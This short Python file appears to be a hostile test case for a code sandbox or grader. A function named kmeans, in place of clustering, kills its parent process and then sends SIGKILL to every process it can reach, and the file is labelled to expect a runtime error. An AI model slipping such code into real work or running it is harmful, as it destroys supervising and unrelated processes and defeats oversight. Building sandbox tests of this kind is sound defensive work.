"""Hostile: kills the process that supervises it, then every process it can signal."""
# expect: RUNTIME_ERROR
import os
import signal


def kmeans(X, k, *, max_iter=300, tol=1e-4, seed=None):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return None, None
